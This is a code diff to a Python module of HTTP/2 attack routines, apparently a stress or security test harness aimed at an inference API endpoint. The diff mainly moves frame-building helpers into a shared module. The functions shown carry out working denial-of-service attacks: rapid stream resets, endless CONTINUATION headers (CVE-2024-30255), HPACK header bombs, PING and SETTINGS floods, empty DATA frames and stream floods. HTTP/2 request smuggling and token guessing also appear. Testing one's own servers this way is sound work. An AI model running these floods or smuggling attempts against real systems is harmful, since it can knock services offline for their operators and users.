@@ -18,6 +18,20 @@ from contextlib import contextmanager, suppress
 from dataclasses import dataclass
 from threading import Thread
 
+from http2_frames import (
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    RESET,
+    SETTINGS,
+    frame,
+    header_field,
+    prefixed_integer,
+)
+
 PATH, _LIST = "/v1/completions", "/v1/models"
 _LIMIT_S = 10
 _MIB = 1024 * 1024
@@ -271,31 +285,6 @@ def guessed_tokens(target: AttackTarget, end_s: float) -> Counts:
     return _guessed(target, end_s, lambda: f"{said}.{urlsafe_b64encode(os.urandom(64)).decode().rstrip('=')}")
 
 
-def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
-    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
-
-
-_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
-_END_STREAM, _END_HEADERS = 1, 4
-
-
-def _literal(name: str, value: str) -> bytes:
-    """Return a literal header field without indexing (RFC 7541, section 6.2.2)."""
-    return b"\x00" + b"".join(_length(len(text)) + text for text in (name.encode(), value.encode()))
-
-
-def _length(number: int) -> bytes:
-    """Return an integer with a prefix of seven bits (RFC 7541, section 5.1)."""
-    if number < 127:
-        return bytes((number,))
-    rest, data = number - 127, bytearray((127,))
-    while rest >= 128:
-        data.append(rest % 128 + 128)
-        rest //= 128
-    return bytes((*data, rest))
-
-
 def _block(target: AttackTarget, *more: tuple[str, str], method: str = "POST", path: str = PATH) -> bytes:
     fields = [
         (":method", method),
@@ -306,7 +295,7 @@ def _block(target: AttackTarget, *more: tuple[str, str], method: str = "POST", p
         ("content-type", "application/json"),
         *more,
     ]
-    return b"".join(_literal(name, value) for name, value in fields)
+    return b"".join(header_field(name, value) for name, value in fields)
 
 
 def _http2(target: AttackTarget, end_s: float, flood: Callable[[AttackTarget, ssl.SSLSocket, float], int]) -> Counts:
@@ -316,7 +305,7 @@ def _http2(target: AttackTarget, end_s: float, flood: Callable[[AttackTarget, ss
         try:
             with target.connect(alpn="h2") as one:
                 seen["connections"] += 1
-                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
+                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
                 one.settimeout(1.5)
                 with suppress(OSError):
                     seen["frames"] += flood(target, one, end_s)
@@ -350,7 +339,7 @@ def rapid_resets(target: AttackTarget, end_s: float) -> Counts:
             streams = range(2 * number + 1, 2 * number + 101, 2)
             reset = (8).to_bytes(4, "big")
             return b"".join(
-                _frame(_HEADERS, _END_HEADERS, stream, block) + _frame(_RESET, 0, stream, reset) for stream in streams
+                frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, reset) for stream in streams
             )
 
         return _counted(one, end_s, pairs, 50)
@@ -362,8 +351,8 @@ def continuations(target: AttackTarget, end_s: float) -> Counts:
     """Send HTTP/2 headers that never end (CVE-2024-30255)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
-        one.sendall(_frame(_HEADERS, 0, 1, _block(target)))
-        piece = _frame(_CONTINUATION, 0, 1, b"".join(_literal(f"x-{i}", "y" * 100) for i in range(100)))
+        one.sendall(frame(HEADERS, 0, 1, _block(target)))
+        piece = frame(CONTINUATION, 0, 1, b"".join(header_field(f"x-{i}", "y" * 100) for i in range(100)))
         return _counted(one, end_s, lambda _: piece)
 
     return _http2(target, end_s, flood)
@@ -373,10 +362,10 @@ def header_bombs(target: AttackTarget, end_s: float) -> Counts:
     """Send HTTP/2 headers that index one large field and refer to it four thousand times (similar to CVE-2016-6581)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
-        kept = b"\x40" + _length(1) + b"x" + _length(3800) + b"y" * 3800
+        kept = b"\x40" + prefixed_integer(1) + b"x" + prefixed_integer(3800) + b"y" * 3800
         block = _block(target) + kept + b"\xbe" * 4000
 
-        return _counted(one, end_s, lambda i: _frame(_HEADERS, _END_HEADERS | _END_STREAM, 2 * i + 1, block))
+        return _counted(one, end_s, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block))
 
     return _http2(target, end_s, flood)
 
@@ -385,7 +374,7 @@ def pings(target: AttackTarget, end_s: float) -> Counts:
     """Send HTTP/2 PING and SETTINGS frames without reading the answers (CVE-2019-9512, CVE-2019-9515)."""
 
     def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
-        frames = (_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0, b"")) * 500
+        frames = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, b"")) * 500
         number = 0
         with suppress(OSError):
             while time.monotonic() < end_s:
@@ -400,8 +389,8 @@ def empty_frames(target: AttackTarget, end_s: float) -> Counts:
     """Send HTTP/2 DATA frames without data (CVE-2019-9518)."""
 
     def flood(target: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
-        one.sendall(_frame(_HEADERS, _END_HEADERS, 1, _block(target)))
-        return _counted(one, end_s, lambda _: _frame(_DATA, 0, 1, b"") * 100, 100)
+        one.sendall(frame(HEADERS, END_HEADERS, 1, _block(target)))
+        return _counted(one, end_s, lambda _: frame(DATA, 0, 1, b"") * 100, 100)
 
     return _http2(target, end_s, flood)
 
@@ -410,12 +399,12 @@ def _streams(target: AttackTarget, end_s: float, block: bytes) -> Counts:
     def flood(_: AttackTarget, one: ssl.SSLSocket, end_s: float) -> int:
         streams = range(1, 201, 2)
         for stream in streams:
-            one.sendall(_frame(_HEADERS, _END_HEADERS, stream, block))
+            one.sendall(frame(HEADERS, END_HEADERS, stream, block))
         sent = 0
         with suppress(OSError):
             while time.monotonic() < end_s:
                 for stream in streams:
-                    one.sendall(_frame(_DATA, 0, stream, b"x" * 600))
+                    one.sendall(frame(DATA, 0, stream, b"x" * 600))
                     sent += 1
                 one.settimeout(0.001)
                 with suppress(TimeoutError, ssl.SSLWantReadError):
@@ -535,8 +524,8 @@ def smuggled_http2(target: AttackTarget, end_s: float) -> Counts:
         body = b"0\r\n\r\n" + target.head("content-length: 0", path="/smuggled")
         sent = 0
         for i, case in enumerate(cases):
-            one.sendall(_frame(_HEADERS, _END_HEADERS, 2 * i + 1, _block(target, case)))
-            one.sendall(_frame(_DATA, _END_STREAM, 2 * i + 1, body))
+            one.sendall(frame(HEADERS, END_HEADERS, 2 * i + 1, _block(target, case)))
+            one.sendall(frame(DATA, END_STREAM, 2 * i + 1, body))
             sent += 1
             if not one.recv(65536) or time.monotonic() > end_s:
                 break
